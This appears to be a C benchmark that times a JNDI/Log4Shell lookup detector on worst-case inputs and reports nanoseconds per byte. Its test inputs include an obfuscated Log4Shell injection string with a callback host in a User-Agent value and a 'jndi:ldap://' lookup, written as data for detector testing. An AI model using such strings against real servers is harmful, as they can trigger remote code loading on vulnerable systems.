/* bench/jndi_worst.c - times jndi_scan on hostile inputs (deep nesting, floods of "${", long
 * lookup chains, entity and URL floods, random bytes) and prints ns per byte. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "detect/jndi.h"

#define BIG (1u << 20)

struct input {
    const char *name;
    uint8_t    *data;
    size_t      len;
};

static double now(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static size_t repeat(uint8_t *out, size_t size, const char *unit)
{
    size_t n = 0, u = strlen(unit);

    while (n + u <= size) {
        memcpy(out + n, unit, u);
        n += u;
    }
    return n;
}

/* n copies of open, then mid, then n copies of close. */
static size_t nest(uint8_t *out, size_t n, const char *open, const char *mid, const char *close)
{
    size_t o = 0, lo = strlen(open), lm = strlen(mid), lc = strlen(close);

    for (size_t i = 0; i < n; i++, o += lo)
        memcpy(out + o, open, lo);
    memcpy(out + o, mid, lm);
    o += lm;
    for (size_t i = 0; i < n; i++, o += lc)
        memcpy(out + o, close, lc);
    return o;
}

/* Many 32-deep chains of defaults whose values are 400 bytes: every close moves a full frame. */
static size_t heavy_defaults(uint8_t *out, size_t size)
{
    uint8_t chain[2048];
    size_t c = nest(chain, 32, "${a:-", "", "}"), n = 0;

    memmove(chain + 32 * 5 + 400, chain + 32 * 5, 32);
    memset(chain + 32 * 5, 'v', 400);
    c += 400;
    while (n + c <= size) {
        memcpy(out + n, chain, c);
        n += c;
    }
    return n;
}

int main(int argc, char **argv)
{
    static struct jndi_hit hits[8];
    struct input in[10];
    uint32_t x = 2463534242u;
    size_t k = 0;
    double budget = argc > 1 ? atof(argv[1]) : 0.3;

    for (size_t i = 0; i < sizeof(in) / sizeof(in[0]); i++) {
        in[i].data = malloc(BIG);
        if (in[i].data == NULL)
            return 1;
    }
    in[k].name = "typical header value with a lookup (120 B)";
    in[k].len = (size_t)snprintf((char *)in[k].data, BIG,
                                 "Mozilla/5.0 (X11; Linux x86_64) ${jndi:${lower:l}${lower:d}a${lower:p}://"
                                 "world80.log4j.bin${upper:a}ryedge.io:80/callback}");
    k++;
    in[k].name = "64 KiB of text, no special byte";
    in[k].len = repeat(in[k].data, JNDI_INPUT_MAX, "GET /index.html HTTP/1.1 Host: example.com ");
    k++;
    in[k].name = "deep nesting: 16k x \"${\", a lookup, 16k x \"}\"";
    in[k].len = nest(in[k].data, 16384, "${", "jndi:ldap://deep.example/a", "}");
    k++;
    in[k].name = "64 KiB of \"${\"";
    in[k].len = repeat(in[k].data, JNDI_INPUT_MAX, "${");
    k++;
    in[k].name = "\"${lower:\" chain, 64 KiB, closed";
    in[k].len = nest(in[k].data, 7000, "${lower:", "x", "}");
    k++;
    in[k].name = "32-deep defaults with 400 B values, 64 KiB";
    in[k].len = heavy_defaults(in[k].data, JNDI_INPUT_MAX);
    k++;
    in[k].name = "64 KiB of \"%2525\" (stacked URL decoding)";
    in[k].len = repeat(in[k].data, JNDI_INPUT_MAX, "%2525");
    k++;
    in[k].name = "\"&#\" then 64 KiB of zeros (one entity)";
    memcpy(in[k].data, "&#", 2);
    memset(in[k].data + 2, '0', JNDI_INPUT_MAX - 2);
    in[k].len = JNDI_INPUT_MAX;
    k++;
    in[k].name = "1 MB random bytes (64 KiB read)";
    for (size_t i = 0; i < BIG; i++) {
        x ^= x << 13, x ^= x >> 17, x ^= x << 5;
        in[k].data[i] = (uint8_t)x;
    }
    in[k].len = BIG;
    k++;
    in[k].name = "1 MB random lookup alphabet (64 KiB read)";
    for (size_t i = 0; i < BIG; i++) {
        x ^= x << 13, x ^= x >> 17, x ^= x << 5;
        in[k].data[i] = (uint8_t)"${}:-jndilap/%24\\u&#;"[x % 21];
    }
    in[k].len = BIG;
    k++;

    printf("%-48s %10s %12s %10s %6s\n", "input", "bytes", "us/call", "ns/byte", "hits");
    for (size_t i = 0; i < k; i++) {
        size_t scanned = in[i].len < JNDI_INPUT_MAX ? in[i].len : JNDI_INPUT_MAX;
        double t0 = now(), t;
        unsigned long calls = 0;
        int n = 0;

        do {
            n = jndi_scan(in[i].data, in[i].len, hits, 8);
            calls++;
        } while ((t = now() - t0) < budget);
        printf("%-48s %10zu %12.1f %10.2f %6d\n", in[i].name, in[i].len, t / calls * 1e6,
               t / calls * 1e9 / (double)scanned, n);
    }
    for (size_t i = 0; i < sizeof(in) / sizeof(in[0]); i++)
        free(in[i].data);
    return 0;
}
